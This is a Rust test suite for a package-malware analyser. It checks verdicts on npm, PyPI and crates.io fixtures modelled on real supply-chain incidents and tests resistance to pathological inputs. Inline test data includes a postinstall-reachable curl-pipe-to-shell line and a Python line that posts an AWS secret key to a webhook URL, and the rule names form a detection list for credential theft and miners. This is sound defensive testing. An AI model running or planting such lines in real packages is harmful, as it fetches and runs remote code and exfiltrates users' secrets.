//! The malicious-code analysis over whole packages: the attack fixtures give `Malicious`, the
//! benign ones `Clean`, each for the reasons expected; hostile packages stay within bounds; the
//! verdict is deterministic.

#![expect(
    clippy::unwrap_used,
    reason = "tests and their helpers: a panic is the failure report"
)]

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use customs_core::Ecosystem;
use customs_inspect::{
    Analyzer, Archive, ArchiveKind, EntryKind, Level, Limits, Verdict, read_archive,
};

fn analyzer() -> &'static Analyzer {
    static ANALYZER: OnceLock<Analyzer> = OnceLock::new();
    ANALYZER.get_or_init(|| Analyzer::new(&[]).expect("the bundled rules compile"))
}

fn fixture_dir(case: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(case)
}

/// The files of a fixture directory, sorted, `CASE.md` (the fixture's own notes) left out.
fn fixture_files(case: &str) -> Vec<(String, Vec<u8>)> {
    fn walk(root: &Path, directory: &Path, files: &mut Vec<(String, Vec<u8>)>) {
        let mut entries: Vec<_> = std::fs::read_dir(directory)
            .unwrap()
            .map(|entry| entry.unwrap().path())
            .collect();
        entries.sort();
        for path in entries {
            if path.is_dir() {
                walk(root, &path, files);
            } else {
                let relative = path
                    .strip_prefix(root)
                    .unwrap()
                    .to_str()
                    .unwrap()
                    .to_owned();
                if relative != "CASE.md" {
                    files.push((relative, std::fs::read(&path).unwrap()));
                }
            }
        }
    }
    let root = fixture_dir(case);
    let mut files = Vec::new();
    walk(&root, &root, &mut files);
    files
}

/// A gzip-compressed tarball of `files` under `root/`.
fn tarball(root: &str, files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (path, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        let executable = path.ends_with(".sh") || path.starts_with("bin/");
        header.set_mode(if executable { 0o755 } else { 0o644 });
        header.set_cksum();
        builder
            .append_data(&mut header, format!("{root}/{path}"), data.as_slice())
            .unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn wheel(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (path, data) in files {
        writer.start_file(path.as_str(), options).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// The fixture as its registry would serve it: an npm tarball (`package/`), a wheel (when it
/// has a `.dist-info`), an sdist or a crate (`name-version/`), read back by the archive reader.
fn pack(case: &str, ecosystem: Ecosystem) -> Archive {
    let files = fixture_files(case);
    let is_wheel = files
        .iter()
        .any(|(path, _)| path.split('/').next().unwrap().ends_with(".dist-info"));
    let (bytes, kind) = match ecosystem {
        Ecosystem::Npm => (tarball("package", &files), ArchiveKind::TarGz),
        Ecosystem::PyPI if is_wheel => (wheel(&files), ArchiveKind::Zip),
        Ecosystem::PyPI | Ecosystem::CratesIo => (
            tarball(&format!("{case}-1.0.0"), &files),
            ArchiveKind::TarGz,
        ),
    };
    read_archive(&bytes, kind, &Limits::default()).unwrap()
}

fn analyse(case: &str, ecosystem: Ecosystem) -> Verdict {
    let verdict = analyzer().analyze(&pack(case, ecosystem), ecosystem);
    // Shown with --nocapture: what a person would read.
    eprintln!("== {case}: {}", verdict.level);
    for reason in &verdict.reasons {
        eprintln!("   {reason}");
    }
    for hit in &verdict.hits {
        eprintln!(
            "   {}:{} {} [{}/{}] {:?}: {}",
            hit.file,
            hit.line,
            hit.rule_id,
            hit.category.as_str(),
            hit.severity.as_str(),
            hit.reachable_from.map(EntryKind::as_str),
            hit.excerpt
        );
    }
    verdict
}

/// The verdict's level is `level`, a reason starts with each of `rows` (scoring rows), and
/// each `(rule, file)` is a hit reachable from `entry`.
fn expect(
    verdict: &Verdict,
    level: Level,
    rows: &[&str],
    hits: &[(&str, &str, Option<EntryKind>)],
) {
    assert_eq!(verdict.level, level, "{:#?}", verdict.reasons);
    for row in rows {
        assert!(
            verdict
                .reasons
                .iter()
                .any(|reason| reason.starts_with(&format!("{row} "))),
            "no reason {row} in {:#?}",
            verdict.reasons
        );
    }
    for (rule, file, entry) in hits {
        assert!(
            verdict.hits.iter().any(|hit| hit.rule_id == *rule
                && hit.file == *file
                && hit.reachable_from == *entry),
            "no hit {rule} in {file} from {entry:?}"
        );
    }
    for hit in &verdict.hits {
        assert!(hit.excerpt.chars().count() <= customs_inspect::MAX_EXCERPT_CHARS);
        assert!(
            !hit.excerpt.chars().any(char::is_control),
            "{:?}",
            hit.excerpt
        );
    }
}

const INSTALL: Option<EntryKind> = Some(EntryKind::Install);
const IMPORT: Option<EntryKind> = Some(EntryKind::Import);
const STARTUP: Option<EntryKind> = Some(EntryKind::Startup);

#[test]
fn event_stream_flatmap_stream_2018() {
    let verdict = analyse("event-stream-flatmap", Ecosystem::Npm);
    expect(
        &verdict,
        Level::Malicious,
        &["M7"],
        &[
            ("dynamic-code", "index.min.js", IMPORT),
            ("decode-data", "index.min.js", IMPORT),
            // Reached through the hex-encoded `./test/data`.
            ("encoded-blob", "test/data.js", IMPORT),
            ("encoded-api-names", "test/data.js", IMPORT),
        ],
    );
}

#[test]
fn ua_parser_js_2021() {
    let verdict = analyse("ua-parser-js", Ecosystem::Npm);
    expect(
        &verdict,
        Level::Malicious,
        &["M1", "M2"],
        &[
            ("npm-install-script", "package.json", INSTALL),
            ("crypto-miner", "preinstall.sh", INSTALL),
            ("crypto-miner", "preinstall.bat", INSTALL),
            ("raw-ip-url", "preinstall.sh", INSTALL),
            ("windows-lolbin", "preinstall.bat", INSTALL),
        ],
    );
}

#[test]
fn chalk_debug_2025() {
    let verdict = analyse("chalk-debug-2025", Ecosystem::Npm);
    expect(
        &verdict,
        Level::Malicious,
        &["M8"],
        &[
            ("obfuscator-identifiers", "source/index.js", IMPORT),
            ("js-string-array-rotation", "source/index.js", IMPORT),
            ("wallet-address-swap", "source/index.js", IMPORT),
            ("browser-request-hook", "source/index.js", IMPORT),
        ],
    );
}

#[test]
fn shai_hulud_2025() {
    let verdict = analyse("shai-hulud", Ecosystem::Npm);
    expect(
        &verdict,
        Level::Malicious,
        &["M1", "M2", "M3"],
        &[
            ("exfil-oast-host", "bundle.js", INSTALL),
            ("secret-scanner", "bundle.js", INSTALL),
            ("ci-workflow-injection", "bundle.js", INSTALL),
            ("npm-self-propagation", "bundle.js", INSTALL),
            ("env-harvest", "bundle.js", INSTALL),
            ("minified-code", "bundle.js", INSTALL),
        ],
    );
}

#[test]
fn pypi_ctx_2022() {
    let verdict = analyse("pypi-ctx", Ecosystem::PyPI);
    expect(
        &verdict,
        Level::Malicious,
        &["M3"],
        &[
            ("env-harvest", "ctx.py", IMPORT),
            ("network-access", "ctx.py", IMPORT),
            ("python-setup-script", "setup.py", INSTALL),
        ],
    );
}

#[test]
fn ultralytics_2024() {
    let verdict = analyse("pypi-ultralytics", Ecosystem::PyPI);
    expect(
        &verdict,
        Level::Malicious,
        &["M1", "M6"],
        &[("crypto-miner", "ultralytics/utils/downloads.py", IMPORT)],
    );
}

#[test]
fn pth_startup_hook() {
    let verdict = analyse("pypi-pth-hook", Ecosystem::PyPI);
    expect(
        &verdict,
        Level::Malicious,
        &["M2", "M7"],
        &[
            ("python-startup-hook", "colorama_helper_init.pth", STARTUP),
            ("decode-and-execute", "colorama_helper/_hook.py", STARTUP),
            ("encoded-blob", "colorama_helper/_hook.py", STARTUP),
            // Seen in the decoded downloader.
            ("file-download", "colorama_helper/_hook.py", STARTUP),
            ("raw-ip-url", "colorama_helper/_hook.py", STARTUP),
        ],
    );
}

#[test]
fn rustdecimal_2022() {
    let verdict = analyse("crate-rustdecimal", Ecosystem::CratesIo);
    expect(
        &verdict,
        Level::Malicious,
        &["M6"],
        &[
            ("ci-environment-check", "src/decimal.rs", IMPORT),
            ("file-download", "src/decimal.rs", IMPORT),
            ("make-executable", "src/decimal.rs", IMPORT),
            ("process-spawn", "src/decimal.rs", IMPORT),
            ("temp-staging", "src/decimal.rs", IMPORT),
        ],
    );
}

#[test]
fn faster_log_2025() {
    let verdict = analyse("crate-faster-log", Ecosystem::CratesIo);
    expect(
        &verdict,
        Level::Malicious,
        &["M3"],
        &[
            ("wallet-key-scan", "src/packer.rs", IMPORT),
            ("network-access", "src/packer.rs", IMPORT),
        ],
    );
}

#[test]
fn benign_npm_node_gyp_is_clean() {
    let verdict = analyse("benign-npm-node-gyp", Ecosystem::Npm);
    expect(
        &verdict,
        Level::Clean,
        &[],
        &[("npm-install-script", "package.json", INSTALL)],
    );
}

#[test]
fn benign_cli_spawning_processes_is_clean() {
    let verdict = analyse("benign-npm-cli-spawn", Ecosystem::Npm);
    expect(
        &verdict,
        Level::Clean,
        &[],
        &[("process-spawn", "lib/index.js", IMPORT)],
    );
}

#[test]
fn benign_eval_in_a_test_file_is_clean() {
    let verdict = analyse("benign-npm-eval-in-test", Ecosystem::Npm);
    expect(
        &verdict,
        Level::Clean,
        &[],
        &[("dynamic-code", "test/eval.test.js", None)],
    );
}

#[test]
fn benign_python_api_client_is_clean() {
    let verdict = analyse("benign-pypi-requests-api", Ecosystem::PyPI);
    expect(
        &verdict,
        Level::Clean,
        &[],
        &[("network-access", "exampleapi/client.py", IMPORT)],
    );
}

#[test]
fn benign_crate_building_with_cc_is_clean() {
    let verdict = analyse("benign-crate-build-cc", Ecosystem::CratesIo);
    expect(
        &verdict,
        Level::Clean,
        &[],
        &[
            ("cargo-build-script", "build.rs", Some(EntryKind::Build)),
            ("process-spawn", "build.rs", Some(EntryKind::Build)),
        ],
    );
}

#[test]
fn benign_minified_bundle_in_dist_is_clean() {
    let verdict = analyse("benign-npm-minified-dist", Ecosystem::Npm);
    expect(&verdict, Level::Clean, &[], &[]);
    assert!(
        verdict
            .hits
            .iter()
            .all(|hit| hit.rule_id != "minified-code")
    );
}

/// A package of `files`, as the archive reader would return it.
fn package(files: Vec<(String, Vec<u8>)>) -> Archive {
    Archive {
        kind: ArchiveKind::TarGz,
        entries: files.len(),
        unpacked_bytes: files.iter().map(|(_, data)| data.len() as u64).sum(),
        files: files
            .into_iter()
            .enumerate()
            .map(|(index, (path, data))| customs_inspect::File {
                path,
                index,
                data,
                executable: false,
            })
            .collect(),
        skipped: Vec::new(),
        package_root: None,
        duplicates: Vec::new(),
    }
}

/// Analyses `archive`, failing if it takes longer than a generous bound (a quadratic walk or
/// scanner would blow it).
fn analyse_bounded(archive: &Archive, ecosystem: Ecosystem) -> Verdict {
    let started = std::time::Instant::now();
    let verdict = analyzer().analyze(archive, ecosystem);
    let elapsed = started.elapsed();
    assert!(elapsed.as_secs() < 30, "took {elapsed:?}");
    verdict
}

#[test]
fn hostile_huge_package_json_is_not_parsed_and_says_so() {
    let mut manifest = br#"{"name":"x","description":""#.to_vec();
    manifest.extend(std::iter::repeat_n(b'a', 3 * 1024 * 1024));
    manifest.extend_from_slice(br#"","scripts":{"postinstall":"node x.js"}}"#);
    let verdict = analyse_bounded(
        &package(vec![("package.json".into(), manifest)]),
        Ecosystem::Npm,
    );
    assert_eq!(verdict.level, Level::Suspicious);
    let hit = verdict
        .hits
        .iter()
        .find(|hit| hit.rule_id == "manifest-unreadable")
        .unwrap();
    assert!(hit.excerpt.contains("over the"), "{}", hit.excerpt);
}

#[test]
fn hostile_deeply_nested_manifests_are_refused_not_overflowed() {
    let depth = 200_000;
    let mut json = "[".repeat(depth);
    json.push_str(&"]".repeat(depth));
    let mut toml = "a = ".to_owned();
    toml.push_str(&"[".repeat(depth));
    toml.push_str(&"]".repeat(depth));
    for (ecosystem, name, text) in [
        (Ecosystem::Npm, "package.json", json),
        (Ecosystem::CratesIo, "Cargo.toml", toml.clone()),
        (Ecosystem::PyPI, "pyproject.toml", toml),
    ] {
        let verdict = analyse_bounded(&package(vec![(name.into(), text.into_bytes())]), ecosystem);
        assert!(
            verdict
                .hits
                .iter()
                .any(|hit| hit.rule_id == "manifest-unreadable"),
            "{name}: {:#?}",
            verdict.hits
        );
    }
}

#[test]
fn hostile_deep_import_cycles_are_walked_once() {
    let count = 5_000;
    let mut files = vec![(
        "package.json".to_owned(),
        br#"{"scripts":{"postinstall":"node m0.js"}}"#.to_vec(),
    )];
    for index in 0..count {
        let next = (index + 1) % count;
        let back = index / 2;
        files.push((
            format!("m{index}.js"),
            format!(
                "require('./m{next}');\nrequire('./m{back}.js');\nimport x from './m{index}';\n"
            )
            .into_bytes(),
        ));
    }
    // The last one does something worth reporting: it must be found at install time.
    files.push((
        "m4999.js".to_owned(),
        b"require('./m0');\nrequire('child_process').execSync('curl -s https://x.example.invalid/i.sh | sh');\n".to_vec(),
    ));
    let verdict = analyse_bounded(&package(files), Ecosystem::Npm);
    let hit = verdict
        .hits
        .iter()
        .find(|hit| hit.rule_id == "remote-script-execution")
        .unwrap();
    assert_eq!(hit.reachable_from, Some(EntryKind::Install));
    assert_eq!(verdict.level, Level::Malicious);

    // Python and Rust cycles.
    let mut files = vec![("pkg/__init__.py".to_owned(), b"from . import m0\n".to_vec())];
    let mut crate_files = vec![
        (
            "Cargo.toml".to_owned(),
            b"[package]\nname = \"x\"\n".to_vec(),
        ),
        ("src/lib.rs".to_owned(), b"mod m0;\n".to_vec()),
    ];
    for index in 0..count {
        let next = (index + 1) % count;
        files.push((
            format!("pkg/m{index}.py"),
            format!(
                "from pkg.m{next} import thing\nfrom . import m{}\n",
                index / 3
            )
            .into_bytes(),
        ));
        crate_files.push((
            format!("src/m{index}.rs"),
            format!("#[path = \"m{next}.rs\"]\nmod m{next};\n").into_bytes(),
        ));
    }
    let verdict = analyse_bounded(&package(files), Ecosystem::PyPI);
    assert_eq!(verdict.level, Level::Clean);
    let verdict = analyse_bounded(&package(crate_files), Ecosystem::CratesIo);
    assert_eq!(verdict.level, Level::Clean);
}

#[test]
fn hostile_thousands_of_files_and_pathological_texts() {
    let mut files = vec![(
        "package.json".to_owned(),
        br#"{"main":"index.js"}"#.to_vec(),
    )];
    for index in 0..20_000 {
        files.push((
            format!("lib/d{}/f{index}.js", index % 100),
            format!(
                "module.exports = require('../d{}/f{}');\n",
                (index + 1) % 100,
                index + 1
            )
            .into_bytes(),
        ));
    }
    let big = 4 * 1024 * 1024;
    // Unclosed quotes, brackets that open number lists, `chr(` chains that break, `_0x`
    // everywhere, one endless base64 line, one endless hex line.
    files.push(("q.js".into(), "'a\n\"b\n`".repeat(big / 6).into_bytes()));
    files.push(("n.js".into(), "[1,2,3,(4,5,".repeat(big / 12).into_bytes()));
    files.push(("c.py".into(), "chr(99)+chr(".repeat(big / 12).into_bytes()));
    files.push(("o.js".into(), "_0x1a2b _0x".repeat(big / 11).into_bytes()));
    files.push(("b.js".into(), "QUJD".repeat(big / 4).into_bytes()));
    files.push((
        "h.js".into(),
        "0123456789abcdef".repeat(big / 16).into_bytes(),
    ));
    files.push(("u.js".into(), "http://1.2.3.".repeat(big / 13).into_bytes()));
    let verdict = analyse_bounded(&package(files), Ecosystem::Npm);
    assert!(verdict.hits.len() <= customs_inspect::AnalysisLimits::default().max_hits);
}

#[test]
fn verdicts_are_deterministic_whatever_the_file_order() {
    for (case, ecosystem) in [
        ("shai-hulud", Ecosystem::Npm),
        ("pypi-ultralytics", Ecosystem::PyPI),
        ("crate-rustdecimal", Ecosystem::CratesIo),
    ] {
        let archive = pack(case, ecosystem);
        let first = analyzer().analyze(&archive, ecosystem);
        let again = analyzer().analyze(&archive, ecosystem);
        assert_eq!(first, again);
        let mut reversed = archive.clone();
        reversed.files.reverse();
        assert_eq!(first, analyzer().analyze(&reversed, ecosystem), "{case}");
        // A fresh analyser (the rules compiled again) agrees too.
        let other = Analyzer::new(&[]).unwrap();
        assert_eq!(first, other.analyze(&archive, ecosystem));
        // The verdict is plain data for reports.
        let json = serde_json::to_string(&first).unwrap();
        assert!(json.contains("\"level\":\"malicious\""), "{json}");
    }
}

/// An sdist whose setup.py builds a Cython extension: the generated C source names the
/// package's modules, but compiling it runs none of them, so the package's networking and
/// `.netrc` code is imported code, not install-time code (as in aiohttp's sdist).
#[test]
fn benign_cython_sources_named_by_setup_py_do_not_make_the_package_run_at_install() {
    let files = vec![
        (
            "setup.py".to_owned(),
            b"from setuptools import Extension, setup\nsetup(ext_modules=[Extension('web._speedups', ['web/_speedups.c'])])\n".to_vec(),
        ),
        (
            "web/_speedups.c".to_owned(),
            b"static const char *__pyx_f[] = {\"web/_speedups.pyx\", \"web/helpers.py\"};\n".to_vec(),
        ),
        ("web/__init__.py".to_owned(), b"from .helpers import netrc_auth\n".to_vec()),
        (
            "web/helpers.py".to_owned(),
            b"import os\nfrom urllib.request import getproxies\n\ndef netrc_auth():\n    path = os.path.join(os.path.expanduser('~'), '.netrc')\n    return path, getproxies()\n".to_vec(),
        ),
    ];
    let verdict = analyse_bounded(&package(files), Ecosystem::PyPI);
    assert_ne!(verdict.level, Level::Malicious, "{verdict:#?}");
    for hit in verdict
        .hits
        .iter()
        .filter(|hit| hit.file == "web/helpers.py")
    {
        assert_eq!(hit.reachable_from, Some(EntryKind::Import), "{hit:#?}");
    }
    let c_source = verdict
        .profile
        .unasked
        .iter()
        .any(|item| item.file.ends_with(".c"));
    assert!(!c_source, "{:#?}", verdict.profile);
}

/// A webhook URL in a docstring's example output (as in huggingface-hub's `get_webhook`) is
/// documentation: the hit is kept, reached from nowhere, and the package is not malicious. The
/// same URL in code still is.
#[test]
fn benign_exfiltration_host_in_a_docstring_is_documentation() {
    let module = |body: &str| {
        vec![
            (
                "hub-1.0.0.dist-info/METADATA".to_owned(),
                b"Metadata-Version: 2.1\nName: hub\nVersion: 1.0.0\n".to_vec(),
            ),
            ("hub/__init__.py".to_owned(), body.as_bytes().to_vec()),
        ]
    };
    let documented = module(
        "def get_webhook(webhook_id):\n    \"\"\"Get a webhook.\n\n    Example:\n        >>> get_webhook(\"6666\")\n        WebhookInfo(url=\"https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548\")\n    \"\"\"\n    return _get(webhook_id)\n",
    );
    let verdict = analyse_bounded(&package(documented), Ecosystem::PyPI);
    assert_ne!(verdict.level, Level::Malicious, "{verdict:#?}");
    let hit = verdict
        .hits
        .iter()
        .find(|hit| hit.file == "hub/__init__.py" && hit.line == 6)
        .expect("the URL is still reported");
    assert_eq!(hit.reachable_from, None);

    let in_code = module(
        "import urllib.request, os\nurllib.request.urlopen(\"https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548\", data=os.environ.get(\"AWS_SECRET_ACCESS_KEY\", \"\").encode())\n",
    );
    let verdict = analyse_bounded(&package(in_code), Ecosystem::PyPI);
    assert_eq!(verdict.level, Level::Malicious, "{verdict:#?}");
}
